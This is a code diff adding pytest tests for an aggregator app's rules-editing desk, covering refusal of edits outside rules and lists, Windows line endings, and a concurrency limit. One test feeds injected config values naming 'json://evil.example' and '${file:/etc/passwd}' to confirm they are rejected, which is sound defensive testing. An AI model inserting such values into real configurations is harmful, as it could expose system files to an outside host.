@@ -1,5 +1,6 @@
 """The desk over a real house: files on disk, a real database, no network."""
 
+import asyncio
 from collections.abc import AsyncIterator
 from pathlib import Path
 
@@ -8,7 +9,7 @@ import pytest
 from aggregator.app.desk import AppDesk
 from aggregator.app.house import open_house
 from aggregator.config import load
-from aggregator.core.errors import Forbidden, NotFound
+from aggregator.core.errors import Busy, Conflict, Forbidden, NotFound
 
 pytestmark = pytest.mark.anyio
 
@@ -67,3 +68,42 @@ async def test_what_runs_is_not_loaded_again(desk: AppDesk) -> None:
     assert (await desk.check_rules(changed.name, changed.text)).rules == ("s400", "caatsa")
     with pytest.raises(NotFound):
         await desk.check_rules("feeds.yaml", "")
+
+
+async def test_only_rules_and_lists_are_edited(desk: AppDesk) -> None:
+    """Check, preview and save refuse everything else alike, whoever asks, and read no file for it."""
+    (file,) = await desk.rules_files()
+    evil = RULES + "channels: {x: {url: 'json://evil.example', template: /etc/passwd}}\n"
+    for tried in (
+        desk.check_rules(file.name, evil),
+        desk.preview(file.name, evil, desk.clock.now()),
+        desk.save_rules(file.name, evil, file.digest),
+    ):
+        with pytest.raises(Conflict, match="only rules and lists can be changed here"):
+            await tried
+    verdict = await desk.check_rules(file.name, RULES.replace("S-400", '"${file:/etc/passwd}"'))
+    assert [problem.message for problem in verdict.problems] == [
+        "${file:/etc/passwd} is a reference that the file on disk does not have"
+    ]
+    assert (desk.path / "rules.yaml").read_text() == RULES
+
+
+async def test_line_ends_of_windows_are_kept(desk: AppDesk) -> None:
+    """A browser sends every line end alike; the file keeps its own."""
+    (desk.path / "rules.yaml").write_bytes(b"# note\r\nsettings: {}\r\n" + RULES.replace("\n", "\r\n").encode())
+    (file,) = await desk.rules_files()
+    text = file.text.replace("\r\n", "\n").replace("S-400", "S-400, S-500")
+    assert (await desk.check_rules(file.name, text)).ok
+    saved = await desk.save_rules(file.name, text, file.digest)
+    assert saved.text.count("\r\n") == saved.text.count("\n") == 5
+    assert "S-500" in saved.text
+
+
+async def test_checks_take_turns(desk: AppDesk) -> None:
+    """One check is at work, few wait, and the others are asked to come back."""
+    (file,) = await desk.rules_files()
+    texts = [RULES + f"  - id: r{n}\n    any: [x{n}]\n" for n in range(12)]
+    done = await asyncio.gather(*(desk.check_rules(file.name, text) for text in texts), return_exceptions=True)
+    assert sum(isinstance(one, Busy) for one in done) == 7
+    assert [one for one in done if not isinstance(one, Busy) and (isinstance(one, BaseException) or not one.ok)] == []
+    assert (await desk.check_rules(file.name, texts[0])).ok
